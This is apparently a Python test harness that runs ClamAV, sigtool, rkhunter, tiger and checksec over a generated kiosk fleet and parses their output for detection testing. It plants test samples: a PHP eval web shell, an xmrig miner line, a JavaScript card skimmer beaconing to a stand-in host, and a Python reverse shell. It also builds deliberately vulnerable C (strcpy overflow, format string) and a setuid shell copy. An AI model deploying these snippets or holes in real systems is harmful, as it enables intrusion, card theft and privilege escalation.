"""Round 116's scanners of files and binaries and the extractors of their kinds (NEEDLES.md, "Round 116"): ClamAV's
clamscan with signature databases written here (`.ndb` body signatures, `.hdb` hashes made with sigtool, `.ldb`
logical signatures) over a copy of the `gangway` kiosk fleet's files (a seeded generator writes thousands of files and
plants test "malware": web shells, a miner, a skimmer, an updater whose hash is listed), a database that does not
parse, sigtool on those databases, rkhunter and tiger on this machine (a hidden file planted in /dev, setuid and
world-writable files made here, removed after), and checksec over kiosk binaries built here with and without
hardening. Run through capture_wide116.py."""

from __future__ import annotations

import random
import re
from collections import Counter
from pathlib import Path

import capture_more as cm
from capture_more import mask, run, write_tree
from capture_data import rule4
from capture_wide116 import cap
from capture_wide116_conf import _status, _warn_groups

# ------------------------------------------------------------------ the extractors (rule 5 values, NEEDLES.md)

CLAM_SUMMARY = re.compile(r"^(Known viruses|Scanned files|Infected files|Data scanned|Time):")


@cm.kind("clamscan", "search")
def n_clamscan(lines):
    """Rule 5: every FOUND line (file, signature), every ERROR / LibClamAV Error line, WARNING lines one {"any"} per message shape, the summary's Known viruses / Scanned files / Infected files / Data scanned / Time lines."""
    out = [ln for ln in lines if ln.endswith(" FOUND") or CLAM_SUMMARY.match(ln)
           or re.search(r"ERROR|LibClamAV Error|: No such file|Can't ", ln)]
    return out + _warn_groups(lines, r"WARNING|LibClamAV Warning") + _status(lines)


@cm.kind("sigtool", "listing")
def n_sigtool(lines):
    """Rule 5: every signature name line (--list-sigs / --find-sigs, VIRUS NAME: of --decode-sigs, the name field of --md5 lines), --info's Build time / Version / Signatures / Verification lines, every ERROR line."""
    out = []
    for ln in lines:
        s = ln.strip()
        if re.match(r"^(VIRUS NAME|Build time|Version|Signatures|Verification \w+):", s) or "ERROR" in ln:
            out.append(ln)
        elif re.match(r"^[0-9a-f]{32,64}:\d+:\S+$", s):  # --md5 / --sha256: hash:size:name
            out.append(s.rsplit(":", 1)[1])
        elif re.match(r"^[A-Za-z][\w.-]*\.[\w.-]+$", s) and not re.search(r"\.(ndb|hdb|ldb|cvd|cld)$", s):
            out.append(ln)
    return out + _status(lines)


RK_COUNTS = re.compile(r"(Files checked|Suspect files|Rootkits checked|Possible rootkits|Suspect applications|"
                       r"Applications checked):")


@cm.kind("rkhunter-check", "test")
def n_rkhunter_check(lines):
    """Rule 5: every line whose status is [ Warning ] or [ Found ] and every Warning: line, the summary's count lines (Files checked, Suspect files, Rootkits checked, Possible rootkits, Suspect applications), the log file line, every error / Invalid line."""
    return [ln for ln in lines if re.search(r"\[ (Warning|Found) \]|Warning:|[Ee]rror|Invalid|log file", ln)
            or RK_COUNTS.search(ln)] + _status(lines)


RK_CONT = re.compile(r"^\[\d\d:\d\d:\d\d\]\s{5,}\S")


@cm.kind("rkhunter-log", "log")
def n_rkhunter_log(lines):
    """Rule 5: every Warning: line and the first continuation line under it, every Found / Error / Invalid line, the Running Rootkit Hunter version line, the summary count lines."""
    out = []
    for i, ln in enumerate(lines):
        if "Warning:" in ln:
            out.append(ln)
            if i + 1 < len(lines) and RK_CONT.match(lines[i + 1]):
                out.append(lines[i + 1])
        elif re.search(r"\bFound\b|[Ee]rror|Invalid|Running Rootkit Hunter version", ln) or RK_COUNTS.search(ln):
            if not re.search(r"Not found|: None found|Nothing found", ln):
                out.append(ln)
    return out + _status(lines)


@cm.kind("tiger", "log")
def n_tiger(lines):
    """Rule 5: every --FAIL--, --WARN-- and --ALERT-- line, --INFO-- lines one {"any"} per message code, the security report file line."""
    out = [ln for ln in lines if re.search(r"--(FAIL|WARN|ALERT)--", ln) or re.search(r"[Ss]ecurity report is in|"
                                                                                      r"report (is|was) (in|saved)", ln)]
    info = [(m.group(1), ln) for ln in lines if (m := re.search(r"--INFO--\s*(\[\w+\])", ln))]
    return out + cm.groups(info) + _status(lines)


CHECKSEC_WEAK = re.compile(r"No RELRO|Partial RELRO|No canary found|NX disabled|No PIE|(?<!No )\bRPATH\b|"
                           r"(?<!No )\bRUNPATH\b|DSO|PIE enabled, but")


@cm.kind("checksec", "table")
def n_checksec(lines):
    """Rule 5: the header row, every row lacking a protection (No/Partial RELRO, No canary found, NX disabled, No PIE, RPATH/RUNPATH set), rule 4 on the rows' categorical columns, every error line."""
    out, rows, header = [], [], None
    for ln in lines:
        if "RELRO" in ln and "CANARY" in ln:
            header = ln
            out.append(ln)
            continue
        if re.search(r"[Ee]rror|not an ELF|No such file|[Pp]ermission denied|does not exist", ln):
            out.append(ln)
            continue
        if header and re.search(r"RELRO", ln):
            cols = [c.strip() for c in re.split(r"\t+|\s{2,}", ln.strip()) if c.strip()]
            if CHECKSEC_WEAK.search(ln.replace("No RPATH", "").replace("No RUNPATH", "")) or "No RELRO" in ln:
                out.append(ln)
            rows.append((ln, {f"c{k}": v for k, v in enumerate(cols[:6])}))
    return out + rule4(rows, cat=[f"c{k}" for k in range(6)]) + _status(lines)


# ------------------------------------------------------------------ the kiosk fleet's files and signatures

WORDS = ("ticket berth gangway quay ferry manifest kiosk till receipt fare cabin deck tide harbour vessel crew lane "
         "barrier printer scanner queue sailing voyage").split()

PLANTS = {
    "webshell": ("php", "<?php if(isset($_POST['q'])){ eval(base64_decode($_POST['q'])); } ?>\n"),
    "miner": ("sh", "#!/bin/sh\n/tmp/.k/xmrig -o stratum+tcp://pool.gangway-mine.example:3333 -u kiosk\n"),
    "skimmer": ("js", "document.querySelector('#card').addEventListener('change',function(e){"
                      "new Image().src='https://cdn-gangway-stats.example/c.gif?d='+btoa(e.target.value)});\n"),
    "revshell": ("py", "import socket,subprocess,os;s=socket.socket();s.connect(('10.99.0.7',4444));"
                       "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n"),
}

NDB = """Gangway.Webshell.EvalB64:0:*:6576616c286261736536345f6465636f646528
Gangway.Skimmer.CardBeacon:0:*:2363617264272925{-40}6e657720496d61676528292e7372633d
Gangway.Revshell.Py:0:*:736f636b65742e736f636b657428293b732e636f6e6e656374
Gangway.Dropper.CurlSh:0:*:6375726c202d7320687474703a2f2f{-30}7c207368
"""

LDB = ("Gangway.Miner.Stratum;Engine:51-255,Target:0;0&1;7374726174756d2b7463703a2f2f;786d726967\n"
       "Gangway.Kiosk.TestMarker;Engine:51-255,Target:0;0;47414e475741592d4b494f534b2d544553542d4d41524b4552\n")

BAD_NDB = NDB + "Gangway.Broken.Sig:0:*:6576616c28zz\nGangway.Broken.Short:0\n"


def make_fleet(root: Path, seed: int, n: int) -> int:
    rng = random.Random(seed)
    planted = 0
    for i in range(n):
        d = rng.choice(["app/www", "app/www/assets", "app/lib", "app/bin", "etc", "var/spool/receipts",
                        "var/cache/tiles", "home/kiosk"])
        ext = rng.choice(["js", "php", "py", "sh", "txt", "json", "conf", "log"])
        body = [f"{rng.choice(WORDS)} {rng.choice(WORDS)} = {rng.randrange(10**6)}" for _ in range(rng.randrange(2, 25))]
        if rng.random() < 0.006:
            kind = rng.choice(sorted(PLANTS))
            ext, payload = PLANTS[kind]
            body.insert(rng.randrange(len(body) + 1), payload)
            planted += 1
        elif rng.random() < 0.002:
            body.append("GANGWAY-KIOSK-TEST-MARKER do not ship")
            planted += 1
        p = root / d / f"{rng.choice(WORDS)}_{i:04d}.{ext}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(body) + "\n")
    return planted


def cap_clam(tmp: Path) -> None:
    d = tmp / "clam"
    write_tree(d, {"sigs/gangway.ndb": NDB, "sigs/gangway.ldb": LDB, "bad/gangway.ndb": BAD_NDB,
                   "updater/till-updater.bin": "".join(chr(33 + (i * 7) % 90) for i in range(5000)),
                   "updater/receipt-fw.bin": "".join(chr(33 + (i * 11) % 90) for i in range(3000))})
    make_fleet(d / "kiosk", 11601, 1100)
    make_fleet(d / "fleet", 11602, 4000)
    for f in ("till-updater.bin", "receipt-fw.bin"):  # the updater the vendor revoked: its hash is a signature
        (d / "fleet/app/bin" / f).write_bytes((d / "updater" / f).read_bytes())
    hdb = run("sigtool --md5 updater/till-updater.bin updater/receipt-fw.bin", cwd=d)
    (d / "sigs/gangway.hdb").write_text("".join(f"{h}:{n}:Gangway.Revoked.{Path(f).name}\n" for h, n, f in
                                                (ln.split(":", 2) for ln in hdb.split()) if f))
    # a larger body-signature database for sigtool's listings
    rng = random.Random(11603)
    extra = "".join(f"Gangway.{rng.choice(['Phish', 'Adware', 'Skimmer', 'Webshell', 'Dropper'])}."
                    f"{rng.choice(WORDS).title()}{i:03d}:0:*:{rng.randbytes(12).hex()}\n" for i in range(140))
    (d / "sigs/gangway-extra.ndb").write_text(extra)
    cap("clamscan-r-kiosk", "clamscan -r -d sigs/ kiosk/", d, n_clamscan, timeout=900)
    cap("clamscan-r-fleet-grep-v-ok", "clamscan -r -d sigs/ fleet/ | grep -v ': OK$'", d, n_clamscan, timeout=900)
    cap("clamscan-r-fleet-tail-80", "clamscan -r -d sigs/ fleet/ 2>&1 | tail -n 80", d, n_clamscan, timeout=900)
    cap("clamscan-i-fleet-echo", "clamscan -r -i --allmatch -d sigs/ fleet/app fleet/home missing/; echo EXIT=$?", d,
        n_clamscan, timeout=900)
    cap("clamscan-bad-db-echo", "clamscan -r -d bad/ kiosk/app/bin 2>&1; echo EXIT=$?; clamscan --debug -d bad/ "
        "kiosk/etc 2>&1 | grep -i -E 'error|warning|problem' | head -n 20", d, n_clamscan, timeout=900)
    cap("sigtool-list-sigs", "sigtool --list-sigs=sigs/gangway-extra.ndb; sigtool -l sigs/gangway.ldb; "
        "sigtool -l sigs/gangway.hdb", d, n_sigtool)
    cap("sigtool-decode-sigs", "cat sigs/gangway.ndb sigs/gangway.ldb | sigtool --decode-sigs 2>&1", d, n_sigtool)
    cap("sigtool-md5-echo", "sigtool --md5 fleet/app/bin/*.sh | head -n 60; echo EXIT=$?", d, n_sigtool)


# ------------------------------------------------------------------ rkhunter, tiger (this machine, plants removed)

PLANTED = [Path("/dev/.gangway-cache"), Path("/usr/local/bin/kiosk-helper"), Path("/etc/.gangway-ftp")]


def _plant() -> None:
    PLANTED[0].write_text("pid=4411\nkey=aGVsbG8=\n")
    run("cp /bin/dash /usr/local/bin/kiosk-helper && chmod 4755 /usr/local/bin/kiosk-helper")
    PLANTED[2].write_text("user kiosk\npass kiosk\n")
    PLANTED[2].chmod(0o666)


def _unplant() -> None:
    for p in PLANTED:
        p.unlink(missing_ok=True)


def cap_rkhunter(tmp: Path) -> None:
    d = tmp / "rk"
    d.mkdir(parents=True)
    _plant()
    try:
        cap("rkhunter-check-sk-echo", "rkhunter --check --sk --nocolors --logfile rk-full.log; echo EXIT=$?", d,
            n_rkhunter_check, timeout=600)
        cap("rkhunter-check-rootkits-rwo-tail-80", "rkhunter -c --sk --nocolors --rwo --enable rootkits,malware "
            "--logfile rk-rk.log 2>&1 | tail -n 80", d, n_rkhunter_check, timeout=400)
        cap("rkhunter-log-grep-warning", "grep -A2 -E 'Warning|Found' rk-full.log | head -n 200", d, n_rkhunter_log)
        cap("rkhunter-log-tail-150", "tail -n 150 rk-full.log", d, n_rkhunter_log)
        cap("rkhunter-log-rk", "cat rk-rk.log", d, n_rkhunter_log)
    finally:
        _unplant()


TIGERRC = """Tiger_Check_PASSWD=Y
Tiger_Check_PASSWD_FORMAT=Y
Tiger_Check_PASSWD_SHADOW=Y
Tiger_Check_GROUP=Y
Tiger_Check_ACCOUNTS=Y
Tiger_Check_RHOSTS=Y
Tiger_Check_PERMS=Y
Tiger_Check_SIGNATURES=N
Tiger_Check_FILESYSTEM=Y
Tiger_Check_CRON=Y
Tiger_Check_INETD=Y
Tiger_Check_EMBEDDED=N
Tiger_Check_PATH=Y
Tiger_Check_ROOT_ACCESS=Y
Tiger_Check_SSH=Y
Tiger_Check_SENDMAIL=N
Tiger_Check_ANONFTP=N
Tiger_Check_NETRC=Y
Tiger_Check_ALIASES=Y
Tiger_Check_EXRC=Y
Tiger_Check_SYSTEM=N
Tiger_Check_KNOWN=N
Tiger_Check_LISTENING=N
Tiger_Check_DELETED=N
Tiger_Check_PATCH=N
Tiger_Check_BACKUPS=N
Tiger_Check_OMITDIRS=N
Tiger_Check_ROOTKIT=N
Tiger_Check_APPS=N
Tiger_FSScan_Setuid=Y
Tiger_FSScan_WDIR=Y
Tiger_FSScan_Devs=Y
Tiger_FSScan_SymLinks=N
Tiger_FSScan_ofiles=N
Tiger_FSScan_Unowned=N
Tiger_FSScan_WriteAble=Y
Tiger_FSScan_Local='/etc /usr/local /root /tmp/hm-corpus-wide116'
Tiger_Output_Only_Fails=N
Tiger_Collapse_CRLF=Y
Tiger_Mail_RCPT=root
"""


def cap_tiger(tmp: Path) -> None:
    d = tmp / "tiger"
    d.mkdir(parents=True)
    (d / "tigerrc").write_text(TIGERRC)
    _plant()
    run("mkdir -p /tmp/hm-corpus-wide116/tiger/drop && chmod 777 /tmp/hm-corpus-wide116/tiger/drop")
    try:
        cap("tiger-run", "tiger -c tigerrc -l . -e 2>&1", d, n_tiger, timeout=420)
        cap("tiger-report-cat", "cat security.report.*", d, n_tiger)
        cap("tiger-report-grep-v-info", "grep -v -- '--INFO--' security.report.* | head -n 120; echo EXIT=$?", d,
            n_tiger)
    finally:
        _unplant()


# ------------------------------------------------------------------ checksec

KIOSK_C = r"""#include <stdio.h>
#include <string.h>
#include <stdlib.h>
int parse_fare(const char *s) { char buf[32]; strcpy(buf, s); return atoi(buf) * %d; }
int main(int argc, char **argv) {
    char line[64];
    if (argc > 1) printf("%%d\n", parse_fare(argv[1]));
    if (fgets(line, sizeof line, stdin)) { printf(line); }
    return 0;
}
"""

VARIANTS = [
    ("default", ""),
    ("fortify", "-O2 -D_FORTIFY_SOURCE=2 -fstack-protector-strong -Wl,-z,relro,-z,now -pie -fPIE"),
    ("nocanary", "-fno-stack-protector"),
    ("execstack", "-z execstack"),
    ("nopie", "-no-pie -fno-pie"),
    ("norelro", "-Wl,-z,norelro"),
    ("partialrelro", "-Wl,-z,relro,-z,lazy"),
    ("rpath", "-Wl,-rpath,/opt/gangway/lib -Wl,--disable-new-dtags"),
    ("runpath", "-Wl,-rpath,/opt/gangway/lib -Wl,--enable-new-dtags"),
    ("legacy", "-fno-stack-protector -z execstack -no-pie -fno-pie -Wl,-z,norelro"),
    ("stripped", "-O2 -s"),
    ("static", "-static"),
]


def cap_checksec(tmp: Path) -> None:
    d = tmp / "checksec"
    (d / "bin").mkdir(parents=True)
    names = []
    for k, (name, flags) in enumerate(VARIANTS):
        for tool in ("till", "gate", "printer"):
            (d / f"{tool}.c").write_text(KIOSK_C.replace("%d", str(k + 3), 1))
            out = f"bin/{tool}-{name}"
            run(f"gcc -w {flags} {tool}.c -o {out}", cwd=d)
            names.append(out)
    write_tree(d, {"bin/kiosk-update.sh": "#!/bin/sh\necho update\n", "list.txt": "\n".join(names[:12]) +
                   "\nbin/kiosk-update.sh\nbin/missing-daemon\n"})
    run("cp bin/till-legacy bin/till-legacy-suid && chmod 4755 bin/till-legacy-suid", cwd=d)
    cap("checksec-dir-bin", "checksec --dir=bin", d, n_checksec)
    cap("checksec-listfile-echo", "checksec --listfile=list.txt 2>&1; echo EXIT=$?", d, n_checksec)
    cap("checksec-file-extended", "for f in bin/till-*; do checksec --file=$f --extended; done 2>&1", d, n_checksec)
    cap("checksec-proc-all-head-100", "checksec --proc-all 2>&1 | head -n 100", d, n_checksec)
    cap("checksec-dir-usr-sbin-grep", "checksec --dir=/usr/sbin 2>&1 | grep -v 'Full RELRO.*Canary found.*NX enabled"
        ".*PIE enabled'", d, n_checksec)


STEPS = [cap_clam, cap_checksec, cap_tiger, cap_rkhunter]
